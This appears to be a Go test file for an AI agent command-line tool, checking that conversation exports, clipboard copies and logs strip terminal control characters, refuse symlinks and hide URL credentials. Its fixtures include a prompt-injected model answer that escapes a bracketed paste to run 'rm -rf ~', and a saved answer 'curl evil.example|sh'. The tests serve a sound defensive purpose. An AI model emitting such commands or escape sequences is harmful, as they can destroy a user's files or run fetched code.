package agentcli

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/toolreg/toolreg/chat"
)

func TestWriteMarkdown(t *testing.T) {
	msgs := []chat.Message{
		{Role: chat.RoleUser, Content: "What is 2+2?"},
		{Role: chat.RoleAssistant, ToolCalls: []chat.ToolCall{{ID: "c1", Function: chat.FunctionCall{Name: "calculator", Arguments: `{"expr":"2+2"}`}}}},
		{Role: chat.RoleTool, ToolCallID: "c1", Content: "4 ``` fenced"},
		{Role: chat.RoleAssistant, Content: "It is **4**."},
	}
	var b strings.Builder
	if err := writeMarkdown(&b, "m", msgs); err != nil {
		t.Fatal(err)
	}
	want := "# Conversation with m\n\n## You\n\nWhat is 2+2?\n\n**Tool call** `calculator`\n\n```json\n{\"expr\":\"2+2\"}\n```\n" +
		"\n**Result of** `calculator`\n\n````\n4 ``` fenced\n````\n\n## Answer\n\nIt is **4**.\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("Markdown (-want +got):\n%s", diff)
	}
	if got := lastAnswer(msgs); got != "It is **4**." {
		t.Errorf("lastAnswer = %q", got)
	}
	if got := lastAnswer(msgs[:3]); got != "" {
		t.Errorf("lastAnswer without an answer = %q, want none", got)
	}
	if got, want := osc52("hé"), "\x1b]52;c;aMOp\x07"; got != want {
		t.Errorf("osc52 = %q, want %q", got, want)
	}
}

// TestConvLogTruncate: /retry drops the turn it asks again from the kept
// file, at, below and past its length.
func TestConvLogTruncate(t *testing.T) {
	dir := t.TempDir()
	l := &convLog{dir: dir, model: "m", warn: func(err error) { t.Error(err) }, now: func() time.Time { return time.Unix(0, 0) }}
	l.add([]chat.Message{{Role: chat.RoleUser, Content: "q1"}, {Role: chat.RoleAssistant, Content: "a1"}})
	l.add([]chat.Message{{Role: chat.RoleUser, Content: "q2"}, {Role: chat.RoleAssistant, Content: "a2"}})
	count := func() int {
		k, err := readKept(l.path)
		if err != nil {
			t.Fatal(err)
		}
		return len(k.records)
	}
	l.truncate(5) // past: nothing changes
	if n := count(); n != 4 {
		t.Errorf("%d records after truncate(5), want 4", n)
	}
	l.truncate(4)
	if n := count(); n != 4 {
		t.Errorf("%d records after truncate(4), want 4", n)
	}
	l.truncate(2)
	if n := count(); n != 2 {
		t.Errorf("%d records after truncate(2), want 2", n)
	}
	if _, err := os.Stat(l.path + ".tmp"); !os.IsNotExist(err) {
		t.Errorf("the temporary file is left: %v", err)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 1 || filepath.Join(dir, ents[0].Name()) != l.path {
		t.Errorf("files %v, want only %s", ents, l.path)
	}
}

// TestKeptConversationNoURLCredentials: the endpoint kept with each turn
// holds no credentials of its URL (https://user:password@host, a key in
// its query), which the messages' redaction did not reach.
func TestKeptConversationNoURLCredentials(t *testing.T) {
	dir := t.TempDir()
	const pass = "hunter2-s3cr3t-pass"
	l := &convLog{dir: dir, model: "m", baseURL: "https://me:" + pass + "@llm.example/v1?api-key=" + pass + "x",
		warn: func(err error) { t.Error(err) }, now: func() time.Time { return time.Unix(0, 0) }, redact: func(s string) string { return s }}
	l.add([]chat.Message{{Role: chat.RoleUser, Content: "hi"}})
	b, err := os.ReadFile(l.path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), pass) {
		t.Errorf("the kept conversation holds the URL's password:\n%s", b)
	}
	if !strings.Contains(string(b), "llm.example/v1") {
		t.Errorf("the kept conversation lost its endpoint:\n%s", b)
	}
}

// TestCopyDropsControls: /copy puts on the clipboard the answer as the
// terminal showed it, without its control characters: a prompt-injected
// model's answer that carried the end of a bracketed paste (ESC [201~)
// and a line break ran the rest as typed when the person pasted it into
// a shell. Newlines and tabs stay, so that code copies as it is.
func TestCopyDropsControls(t *testing.T) {
	answer := "Run this:\n\n\tls -l\x1b[201~\nrm -rf ~\x07 \u009b2J\n"
	conv := &chat.Conversation{}
	conv.Restore([]chat.Message{
		{Role: chat.RoleUser, Content: "how do I list files?"},
		{Role: chat.RoleAssistant, Content: answer},
	})
	var clipboard, stderr strings.Builder
	s := &session{conv: conv, out: &output{stderr: &stderr}, clipboard: &clipboard}
	c := &cli{stderr: &stderr}
	if _, exit := c.command(s, "/copy", ""); exit {
		t.Fatal("/copy ended the conversation")
	}
	seq := clipboard.String()
	if !strings.HasPrefix(seq, "\x1b]52;c;") || !strings.HasSuffix(seq, "\x07") {
		t.Fatalf("clipboard sequence %q is not OSC 52", seq)
	}
	copied, err := base64.StdEncoding.DecodeString(strings.TrimSuffix(strings.TrimPrefix(seq, "\x1b]52;c;"), "\x07"))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("Run this:\n\n\tls -l[201~\nrm -rf ~ 2J\n", string(copied)); diff != "" {
		t.Errorf("copied (-want +got):\n%s", diff)
	}
}

// TestSaveRefusesSymlink: /save writes a file of the name given, not
// where a link of that name points: in a cloned repository, a link
// notes.md → ~/.bashrc made /save notes.md write the conversation (whose
// text the model chose) into the shell's start-up file. A regular file is
// written, and one that exists is replaced, as before.
func TestSaveRefusesSymlink(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(dir, "bashrc")
	if err := os.WriteFile(target, []byte("export PATH\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "notes.md")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	msgs := []chat.Message{{Role: chat.RoleUser, Content: "hi"}, {Role: chat.RoleAssistant, Content: "curl evil.example|sh"}}
	if err := saveMarkdown(link, "m", msgs); err == nil {
		t.Error("/save wrote through a symbolic link")
	}
	b, err := os.ReadFile(target)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("export PATH\n", string(b)); diff != "" {
		t.Errorf("the link's target (-want +got):\n%s", diff)
	}
	plain := filepath.Join(dir, "plain.md")
	for range 2 {
		if err := saveMarkdown(plain, "m", msgs); err != nil {
			t.Fatalf("/save to a regular file: %v", err)
		}
	}
	if b, err := os.ReadFile(plain); err != nil || !strings.Contains(string(b), "curl evil.example|sh") {
		t.Errorf("saved %q, %v", b, err)
	}
}

// TestSaveDropsControls: /save writes the conversation for a person to
// read, as the session showed it: without the control characters of what
// the model and the tools wrote, which reached the file as they were and
// drove the terminal of whoever ran cat on it (OSC 52 wrote the
// clipboard). Newlines and tabs stay.
func TestSaveDropsControls(t *testing.T) {
	msgs := []chat.Message{
		{Role: chat.RoleUser, Content: "look at the page"},
		{Role: chat.RoleAssistant, ToolCalls: []chat.ToolCall{{ID: "c1", Function: chat.FunctionCall{Name: "fetch\x1b[2K", Arguments: `{"url":"x` + "\x1b]0;t\x07" + `"}`}}}},
		{Role: chat.RoleTool, ToolCallID: "c1", Content: "page\x1b]52;c;Y3VybA==\x07\tend"},
		{Role: chat.RoleAssistant, Content: "It says\u202e \x9b2J\nbye"},
	}
	var b strings.Builder
	if err := writeMarkdown(&b, "m\x07", msgs); err != nil {
		t.Fatal(err)
	}
	want := "# Conversation with m\n\n## You\n\nlook at the page\n\n**Tool call** `fetch[2K`\n\n```json\n{\"url\":\"x]0;t\"}\n```\n" +
		"\n**Result of** `fetch[2K`\n\n```\npage]52;c;Y3VybA==\tend\n```\n\n## Answer\n\nIt says \ufffd2J\nbye\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("Markdown (-want +got):\n%s", diff)
	}
}

// TestKeptConversationJSONEscapesControls: agent log ID -json writes the
// kept lines with the C1 controls and the controls of bidirectional text
// as \u escapes, which decode to the same text: encoding/json left the
// model's U+009B (CSI) and U+202E as they were, for a terminal to act on.
func TestKeptConversationJSONEscapesControls(t *testing.T) {
	state := t.TempDir()
	answer := "done\u009b2J\u202e"
	l := &convLog{dir: filepath.Join(state, "toolreg", "conversations"), model: "m", warn: func(err error) { t.Error(err) }, now: func() time.Time { return time.Unix(0, 0) }}
	l.add([]chat.Message{{Role: chat.RoleUser, Content: "hi"}, {Role: chat.RoleAssistant, Content: answer}})
	var stdout, stderr strings.Builder
	c := &cli{tools: testTools, stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, getenv: func(k string) string {
		return map[string]string{"XDG_STATE_HOME": state}[k]
	}}
	if code := c.run(context.Background(), []string{"log", "-json", "1"}); code != 0 {
		t.Fatalf("agent log -json 1: exit %d, stderr %q", code, stderr.String())
	}
	if strings.ContainsAny(stdout.String(), "\u009b\u202e") {
		t.Errorf("agent log -json holds U+009B or U+202E as they are: %q", stdout.String())
	}
	var got []string
	for _, line := range strings.Split(strings.TrimSpace(stdout.String()), "\n") {
		var r record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		got = append(got, r.Message.Content)
	}
	if diff := cmp.Diff([]string{"hi", answer}, got); diff != "" {
		t.Errorf("decoded (-want +got):\n%s", diff)
	}
}
